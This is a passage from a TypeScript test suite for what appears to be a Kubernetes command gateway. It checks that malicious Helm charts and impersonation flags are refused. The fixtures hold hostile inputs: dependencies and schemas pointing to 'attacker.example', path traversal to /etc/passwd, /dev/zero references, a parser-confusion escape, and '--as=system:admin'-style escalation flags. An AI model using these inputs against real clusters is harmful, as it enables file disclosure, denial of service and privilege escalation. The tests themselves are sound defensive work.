  const depends = `${named('web')}dependencies: [{ name: redis, version: 1.0.0, repository: "https://attacker.example" }]\n`;
  test.each<readonly [string, Files, string]>([
    [
      'a packed chart in charts/ (CVE-2025-32386, CVE-2026-35206)',
      { ...chart, 'web/charts/redis-1.0.0.tgz': 'x' },
      'web/charts/redis-1.0.0.tgz',
    ],
    ['one that is spelt otherwise', { ...chart, 'web/charts/redis.TAR.GZ': 'x' }, 'web/charts/redis.TAR.GZ'],
    [
      'one in a chart of a chart',
      { ...chart, 'web/charts/a/Chart.yaml': named('a'), 'web/charts/a/charts/b.tgz': 'x' },
      'web/charts/a/charts/b.tgz',
    ],
    [
      'a dependency that would be fetched (CVE-2025-53547)',
      { ...chart, 'web/Chart.yaml': depends, 'web/Chart.lock': 'dependencies: []\n' },
      'web/Chart.yaml',
    ],
    [
      'a dependency on the machine’s own files',
      { ...chart, 'web/Chart.yaml': depends.replace('https://attacker.example', 'file:///etc') },
      'web/Chart.yaml',
    ],
    [
      'a dependency in requirements.yaml',
      { ...chart, 'web/requirements.yaml': depends.slice(depends.indexOf('dependencies')) },
      'web/Chart.yaml',
    ],
    [
      'dependencies in another case',
      { ...chart, 'web/Chart.yaml': depends.replace('dependencies', 'Dependencies') },
      'web/Chart.yaml',
    ],
    [
      'a name that leads out of its folder (CVE-2026-35206)',
      { ...chart, 'web/Chart.yaml': named('../../../etc') },
      'web/Chart.yaml',
    ],
    ['a name of dots', { ...chart, 'web/Chart.yaml': named('..') }, 'web/Chart.yaml'],
    ['a folder in charts/ without a chart', { ...chart, 'web/charts/a/values.yaml': 'a: 1\n' }, 'web/charts/a/'],
    [
      'a schema that refers to a device (CVE-2025-55199)',
      schema({ $ref: 'file:///dev/zero' }),
      'web/values.schema.json',
    ],
    ['one by path', schema({ properties: { a: { $ref: '/dev/urandom' } } }), 'web/values.schema.json'],
    ['one deep inside', schema({ allOf: [{ items: { $ref: '../../etc/passwd#' } }] }), 'web/values.schema.json'],
    ['one to an address', schema({ $ref: 'https://attacker.example/schema.json' }), 'web/values.schema.json'],
    ['a dynamic one', schema({ $dynamicRef: 'file:///dev/zero' }), 'web/values.schema.json'],
    ['a draft that would be fetched', schema({ $schema: 'https://attacker.example/draft' }), 'web/values.schema.json'],
    // V8 reads the key of the second object as that of the first (shared/lib/strict-json.ts); helm reads $ref.
    [
      'one spelt with an escape, after a key that V8 mistakes it for',
      {
        ...chart,
        'web/values.schema.json': String.raw`{"$defs":{"a":{"b":0,"\\u00":0},"c":{"b":0,"\u0024ref":"file:///dev/zero"}}}`,
      },
      'web/values.schema.json',
    ],
    [
      'one in a chart of a chart ',
      {
        ...chart,
        'web/charts/a/Chart.yaml': named('a'),
        'web/charts/a/values.schema.json': '{"$ref":"file:///dev/zero"}',
      },
      'web/charts/a/values.schema.json',
    ],
    ['a file larger than helm takes', { ...chart, 'web/big.txt': 'x'.repeat(5 * 1024 * 1024 + 1) }, 'web/big.txt'],
    ['a path that leads out', { ...chart, 'web/../../etc/x': 'x' }, 'web/../../etc/x'],
    ['a file twice in two cases', { ...chart, 'web/chart.yaml': 'x' }, 'web/chart.yaml'],
    [
      'charts in charts without end',
      {
        ...chart,
        ...Object.fromEntries(
          Array.from({ length: 10 }, (_, depth) => [`web/${'charts/a/'.repeat(depth + 1)}Chart.yaml`, named('a')]),
        ),
      },
      `web/${'charts/a/'.repeat(9)}`,
    ],
  ])('%s', async (_what, files, word) => {
    for (const command of ['install web', 'template']) await expectRefused(`helm ${command} ./web`, word, { files });
  });

  test.each(['web.tgz', 'web.tar.gz', 'charts/web.tar'])('a whole chart packed, %s (CVE-2025-32386)', async (word) => {
    for (const command of ['install web', 'upgrade web', 'template', 'lint', 'show values'])
      await expectRefused(`helm ${command} ${word}`, word, { files: { [word]: 'x' } });
  });

  test('the control: a vendored dependency and a schema that refers to itself', () =>
    expectAllowed('helm install web ./web', {
      files: {
        ...schema({
          $schema: 'http://json-schema.org/draft-07/schema#',
          properties: { a: { $ref: '#/definitions/a' } },
        }),
        'web/Chart.yaml': depends,
        'web/Chart.lock': 'dependencies: []\n',
        'web/charts/redis/Chart.yaml': named('redis'),
      },
    }));
});

describe('impersonate: true', () => {
  // The stand-in for kubectl does not impersonate, and says so.
  const testWithKubectl = usesStandIn({}) ? test.skip : test;
  const user = `aksgw:${tenant}:${almighty}`;
  const through = (path: string, line: string, files?: Files) =>
    stack.request<Answer['body'] & { command?: string; word?: string }>('POST', `/v1/clusters/named/${path}`, {
      token: tokens.almighty,
      body: body(line, { files }),
    });

  testWithKubectl(
    'Kubernetes is asked in the caller’s name, with the roles that decided as groups and no others',
    async () => {
      const { requests } = stack.azure.kubernetes;
      const before = requests.length;
      const { status, body: ran } = await through('commands', 'kubectl get configmaps -n shop');
      expect([status, ran.status, ran.exitCode]).toEqual([200, 'completed', 0]);
      const seen = requests.slice(before);
      expect(seen.length).toBeGreaterThan(0);
      for (const { impersonate } of seen) expect(impersonate).toEqual({ user, groups: ['aksgw:almighty'] });
      expect(stack.azure.arm.posts.at(-1)?.cluster).toBe(NAMED_ID);
      expect((await through('explain', 'kubectl get configmaps -n shop')).body.command).toMatch(
        new RegExp(`^'?kubectl'? '?--as=${user}'? '?--as-group=aksgw:almighty'? '?get'? `),
      );
    },
  );

  testWithKubectl('RBAC decides again: what it forbids the caller fails, although policy allows it', async () => {
    stack.azure.kubernetes.allow = ({ impersonate }) => impersonate?.user !== user;
    try {
      const { status, body: ran } = await through('commands', 'kubectl get pods -n shop');
      expect([status, ran.status, ran.exitCode]).toEqual([200, 'completed', 1]);
      expect(ran.stderr).toContain(user);
    } finally {
      delete stack.azure.kubernetes.allow;
    }
  });

  test('helm carries its own flags', async () => {
    for (const line of ['helm list', 'helm install web ./web', 'helm get values web']) {
      const { body: explained } = await through('explain', line, line.includes('./web') ? chart : undefined);
      expect(explained.command).toMatch(
        new RegExp(`^'?helm'? '?--kube-as-user=${user}'? '?--kube-as-group=aksgw:almighty'? `),
      );
    }
  });

  test.each([
    ['kubectl get pods --as=system:admin', '--as'],
    ['kubectl get pods --as-group=system:masters', '--as-group'],
    ['kubectl --as system:admin get pods', '--as'],
    ['kubectl get pods --as-uid=0', '--as-uid'],
    ['kubectl get pods --as_group=system:masters', '--as_group'],
    ['helm list --kube-as-user=system:admin', '--kube-as-user'],
    ['helm --kube-as-group system:masters list', '--kube-as-group'],
  ])('callers’ own %s stays refused', async (line, word) => {
    const before = stack.azure.arm.posts.length;
    expect(await through('commands', line)).toMatchObject({ status: 400, body: { code: 'command-refused', word } });
    expect(await through('explain', line)).toMatchObject({ status: 400, body: { code: 'command-refused', word } });
    expect(stack.azure.arm.posts.length).toBe(before);
  });

  test('elsewhere nobody is impersonated', async () => {
    const { requests } = stack.azure.kubernetes;
    const before = requests.length;
    const { body: ran } = await stack.command(body('kubectl get configmaps -n shop', {}), { token: tokens.almighty });
    expect(ran.exitCode).toBe(0);
    expect(requests.slice(before).map(({ impersonate }) => impersonate)).not.toContainEqual(expect.anything());
    expect((await explain('kubectl get pods')).command).not.toContain('--as');
  });
});
